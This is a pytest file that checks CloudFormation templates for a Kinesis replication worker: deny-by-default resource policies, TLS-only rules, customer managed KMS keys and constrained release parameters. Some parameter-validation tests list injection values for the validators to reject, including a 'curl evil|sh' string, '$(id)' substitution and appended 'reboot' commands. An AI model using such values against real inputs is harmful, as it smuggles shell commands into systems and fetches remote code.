"""Who may write into the replication path, TLS, customer managed keys and the release parameters.

moto's CloudFormation skips AWS::Kinesis::ResourcePolicy, AWS::SQS::QueuePolicy and
AWS::S3::BucketPolicy (with a warning): the rendered templates are asserted, and the deploy tests
apply the rendered policies to the deployed stream, queue and bucket through their APIs, as
CloudFormation would (moto does not enforce resource policies: what they deny is not exercised)."""

from __future__ import annotations

import json
import re
from typing import Any

import boto3
import pytest

from tests.infra.conftest import Deploy
from tests.infra.policy import DEFAULT_WORKER_PARAMETERS, load, render, worker_statements

STREAM = {"SourceTableName": "orders", "StreamName": "orders-changes"}
SLR = ("arn:aws:iam::123456789012:role/aws-service-role/kinesisreplication.dynamodb.amazonaws.com/"
       "AWSServiceRoleForDynamoDBKinesisDataStreamsReplication")
KEY = "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"


def statements(resource: dict[str, Any], key: str = "PolicyDocument") -> dict[str, dict[str, Any]]:
    return {s["Sid"]: s for s in resource["Properties"][key]["Statement"]}


@pytest.mark.parametrize(("managed", "extra", "exempt"), [
    ("false", "", [SLR]),
    ("true", "", [SLR, "<DestinationFunctionRole.Arn>"]),
    ("false", "arn:aws:iam::123456789012:role/ops,arn:aws:iam::123456789012:role/ci",
     [SLR, "arn:aws:iam::123456789012:role/ops", "arn:aws:iam::123456789012:role/ci"]),
])
def test_only_the_streaming_destination_may_put_records(managed: str, extra: str, exempt: list[str]) -> None:
    resources = render("stream.yaml", {**STREAM, "ManageStreamingDestination": managed,
                                       "ExtraProducerArns": extra})["Resources"]
    policy = resources["StreamProducerPolicy"]
    assert policy["Type"] == "AWS::Kinesis::ResourcePolicy"
    assert policy["Properties"]["ResourceArn"] == "<Stream.Arn>"
    [deny] = statements(policy, "ResourcePolicy").values()
    assert (deny["Effect"], deny["Principal"], deny["Resource"]) == ("Deny", "*", "<Stream.Arn>")
    assert sorted(deny["Action"]) == ["kinesis:PutRecord", "kinesis:PutRecords"]
    assert deny["Condition"] == {"ArnNotLike": {"aws:PrincipalArn": exempt}}


@pytest.mark.parametrize(("params", "key_id", "worker_key"), [
    ({}, "alias/aws/kinesis", "none"),
    ({"KeyMode": "CUSTOMER_MANAGED"}, "<StreamKey.Arn>", "<StreamKey.Arn>"),
    ({"StreamKmsKeyArn": KEY, "KeyMode": "CUSTOMER_MANAGED"}, KEY, KEY),
])
def test_stream_key_is_aws_managed_created_or_given(params: dict[str, str], key_id: str, worker_key: str) -> None:
    rendered = render("stream.yaml", {**STREAM, **params})
    assert rendered["Resources"]["Stream"]["Properties"]["StreamEncryption"]["KeyId"] == key_id
    assert rendered["Outputs"]["WorkerStreamKeyArn"] == worker_key
    assert ("StreamKey" in rendered["Resources"]) == (key_id == "<StreamKey.Arn>")


def worker(**params: str) -> dict[str, Any]:
    return render("worker.yaml", {**DEFAULT_WORKER_PARAMETERS, **params})["Resources"]


@pytest.mark.parametrize(("extra", "exempt"), [
    ("", ["<WorkerRole.Arn>"]),
    ("arn:aws:iam::123456789012:role/operator", ["<WorkerRole.Arn>", "arn:aws:iam::123456789012:role/operator"]),
])
def test_only_the_worker_sends_dead_letters_and_writes_payloads_over_tls(extra: str, exempt: list[str]) -> None:
    resources = worker(DeadLetterProducerArns=extra)
    queue = resources["DeadLetterQueuePolicy"]
    assert queue["Properties"]["Queues"] == ["<DeadLetterQueue>"]
    sids = statements(queue)
    assert sids["OnlyTheWorkerSends"] == {
        "Sid": "OnlyTheWorkerSends", "Effect": "Deny", "Principal": "*", "Action": "sqs:SendMessage",
        "Resource": "<DeadLetterQueue.Arn>", "Condition": {"ArnNotLike": {"aws:PrincipalArn": exempt}}}
    assert sids["TlsOnly"]["Effect"] == "Deny" and sids["TlsOnly"]["Action"] == "sqs:*"
    assert sids["TlsOnly"]["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}

    bucket = resources["DeadLetterPayloadsPolicy"]
    assert bucket["Properties"]["Bucket"] == "<DeadLetterPayloads>"
    sids = statements(bucket)
    assert sids["OnlyTheWorkerWrites"]["Action"] == "s3:PutObject"
    assert sids["OnlyTheWorkerWrites"]["Condition"] == {"ArnNotLike": {"aws:PrincipalArn": exempt}}
    assert sids["TlsOnly"]["Resource"] == ["<DeadLetterPayloads.Arn>", "<DeadLetterPayloads.Arn>/*"]
    assert sids["TlsOnly"]["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}


def test_customer_managed_keys_for_queue_bucket_and_logs() -> None:
    default = worker()
    assert default["DeadLetterQueue"]["Properties"]["SqsManagedSseEnabled"] is True
    assert "KmsMasterKeyId" not in default["DeadLetterQueue"]["Properties"]
    sse = default["DeadLetterPayloads"]["Properties"]["BucketEncryption"]["ServerSideEncryptionConfiguration"]
    assert sse == [{"ServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]
    assert "KmsKeyId" not in default["LogGroup"]["Properties"]
    assert not {"QueueKeyPolicy", "BucketKeyPolicy"} & set(default)

    keyed = worker(QueueKmsKeyArn=KEY, BucketKmsKeyArn=KEY, LogGroupKmsKeyArn=KEY)
    assert keyed["DeadLetterQueue"]["Properties"]["KmsMasterKeyId"] == KEY
    assert "SqsManagedSseEnabled" not in keyed["DeadLetterQueue"]["Properties"]
    [sse] = keyed["DeadLetterPayloads"]["Properties"]["BucketEncryption"]["ServerSideEncryptionConfiguration"]
    assert sse == {"ServerSideEncryptionByDefault": {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": KEY},
                   "BucketKeyEnabled": True}
    assert keyed["LogGroup"]["Properties"]["KmsKeyId"] == KEY
    by_sid = {s["Sid"]: s for s in worker_statements({**DEFAULT_WORKER_PARAMETERS, "QueueKmsKeyArn": KEY,
                                                      "BucketKmsKeyArn": KEY})}
    for sid, service in (("DeadLetterQueueKey", "sqs"), ("DeadLetterBucketKey", "s3")):
        assert by_sid[sid]["Resource"] == KEY
        assert sorted(by_sid[sid]["Action"]) == ["kms:Decrypt", "kms:GenerateDataKey"]
        assert by_sid[sid]["Condition"] == {"StringEquals": {"kms:ViaService": f"{service}.us-east-1.amazonaws.com"}}


def test_the_release_is_read_from_its_own_object_only() -> None:
    [statement] = [s for s in worker_statements() if s["Sid"] == "ReadRelease"]
    assert statement["Action"] == ["s3:GetObject"]
    assert statement["Resource"] == "arn:aws:s3:::example-releases/tablesync/tablesync-wheelhouse-0.1.0.tar.gz"


def allowed(template: str, name: str, value: str) -> bool:
    spec = load(template)["Parameters"][name]
    return re.fullmatch(spec["AllowedPattern"], value) is not None and len(value) >= spec.get("MinLength", 0)


@pytest.mark.parametrize("value", [
    "s3://my-releases/tablesync/tablesync-wheelhouse-0.2.0.tar.gz", "s3://a.b-c/x.tar.gz"])
def test_release_artifact_accepts_an_s3_wheelhouse(value: str) -> None:
    assert allowed("worker.yaml", "ReleaseArtifact", value)


@pytest.mark.parametrize("value", [
    "tablesync==0.1.0", "https://example.com/t.tar.gz", "s3://b/x.whl", "s3://b/x'; curl evil|sh; '.tar.gz",
    "s3://b/$(id).tar.gz", "s3://b/a b.tar.gz", "s3://b/x.tar.gz\nreboot", "s3://B/x.tar.gz", "s3:///x.tar.gz"])
def test_release_artifact_refuses_anything_else(value: str) -> None:
    assert not allowed("worker.yaml", "ReleaseArtifact", value)
    assert "Default" not in load("worker.yaml")["Parameters"]["ReleaseArtifact"], "no default reaches an index"


def test_release_digest_and_key_parameters_are_constrained() -> None:
    assert allowed("worker.yaml", "ReleaseSha256", "ab" * 32)
    assert not allowed("worker.yaml", "ReleaseSha256", "ab" * 31) and not allowed("worker.yaml", "ReleaseSha256", "")
    for name in ("QueueKmsKeyArn", "BucketKmsKeyArn", "LogGroupKmsKeyArn"):
        assert allowed("worker.yaml", name, "") and allowed("worker.yaml", name, KEY)
        assert not allowed("worker.yaml", name, "alias/aws/sqs") and not allowed("worker.yaml", name, KEY + "\n")
    assert allowed("stream.yaml", "StreamKmsKeyArn", "") and not allowed("stream.yaml", "StreamKmsKeyArn", "x")
    assert allowed("worker.yaml", "StreamKeyArn", "none") and allowed("worker.yaml", "StreamKeyArn", KEY)
    assert not allowed("worker.yaml", "StreamKeyArn", "*")
    assert allowed("worker.yaml", "InstanceType", "m7i.large")
    assert not allowed("worker.yaml", "InstanceType", "m7i.large; reboot")
    assert allowed("worker.yaml", "KeyName", "") and not allowed("worker.yaml", "KeyName", "ops\nx")


def test_external_id_is_required_and_not_guessable() -> None:
    spec = load("target-account.yaml")["Parameters"]["ExternalId"]
    assert "Default" not in spec and spec["NoEcho"] is True
    assert not allowed("target-account.yaml", "ExternalId", "tablesync")
    assert allowed("target-account.yaml", "ExternalId", "9f2c4e0a7b1d4c3e8a6f5b2d1c0e9a7b")


def test_no_template_grants_actions_kcl_app_never_calls() -> None:
    never = {"dynamodb:UpdateItem", "dynamodb:BatchWriteItem"}
    for items in (load("worker.yaml")["Mappings"]["WorkerActions"]["Targets"]["Items"],
                  load("target-account.yaml")["Mappings"]["TargetActions"]["Tables"]["Items"]):
        assert not never & set(items)
        assert "dynamodb:ConditionCheckItem" in items  # an inline create checks the key's tombstone


def _filled(node: Any, values: dict[str, str]) -> Any:
    """The rendered node with its resource placeholders replaced by the deployed stack's values."""
    text = json.dumps(node)
    for placeholder, value in values.items():
        text = text.replace(placeholder, value)
    assert "<" not in text, text
    return json.loads(text)


def test_deployed_stream_takes_its_producer_policy(aws: boto3.Session, deploy: Deploy) -> None:
    """moto's CloudFormation skips AWS::Kinesis::ResourcePolicy: the rendered one is applied to the
    deployed stream through the API, as CloudFormation would, and reads back unchanged."""
    params = {**STREAM, "ManageStreamingDestination": "false"}
    stack = deploy("stream.yaml", params)
    arn = stack["OutputMap"]["StreamArn"]
    props = _filled(render("stream.yaml", params)["Resources"]["StreamProducerPolicy"]["Properties"],
                    {"<Stream.Arn>": arn})
    kinesis = aws.client("kinesis")
    kinesis.put_resource_policy(ResourceARN=props["ResourceArn"], Policy=json.dumps(props["ResourcePolicy"]))
    policy = json.loads(kinesis.get_resource_policy(ResourceARN=arn)["Policy"])
    [deny] = policy["Statement"]
    assert deny["Resource"] == arn and deny["Condition"]["ArnNotLike"]["aws:PrincipalArn"] == [SLR]


def test_deployed_queue_and_bucket_take_their_policies(aws: boto3.Session, deploy: Deploy) -> None:
    ec2 = aws.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.30.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.30.1.0/24")["Subnet"]["SubnetId"]
    params = {k: v for k, v in DEFAULT_WORKER_PARAMETERS.items() if k != "ImageId"}
    params.update(VpcId=vpc, SubnetIds=subnet)
    out = deploy("worker.yaml", params)["OutputMap"]
    bucket = out["DeadLetterPayloadBucket"]
    values = {"<DeadLetterQueue.Arn>": out["DeadLetterQueueArn"], "<DeadLetterQueue>": out["DeadLetterQueueUrl"],
              "<WorkerRole.Arn>": out["WorkerRoleArn"], "<DeadLetterPayloads.Arn>": f"arn:aws:s3:::{bucket}",
              "<DeadLetterPayloads>": bucket}
    resources = render("worker.yaml", params)["Resources"]
    queue = _filled(resources["DeadLetterQueuePolicy"]["Properties"], values)
    sqs = aws.client("sqs")
    [url] = queue["Queues"]
    sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": json.dumps(queue["PolicyDocument"])})
    applied = json.loads(sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["Policy"])["Attributes"]["Policy"])
    sends = {s["Sid"]: s for s in applied["Statement"]}["OnlyTheWorkerSends"]
    assert sends["Condition"]["ArnNotLike"]["aws:PrincipalArn"] == [out["WorkerRoleArn"]]
    assert sends["Resource"] == out["DeadLetterQueueArn"]

    payloads = _filled(resources["DeadLetterPayloadsPolicy"]["Properties"], values)
    s3 = aws.client("s3")
    s3.put_bucket_policy(Bucket=payloads["Bucket"], Policy=json.dumps(payloads["PolicyDocument"]))
    applied = json.loads(s3.get_bucket_policy(Bucket=bucket)["Policy"])
    tls = {s["Sid"]: s for s in applied["Statement"]}["TlsOnly"]
    assert tls["Resource"] == [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]
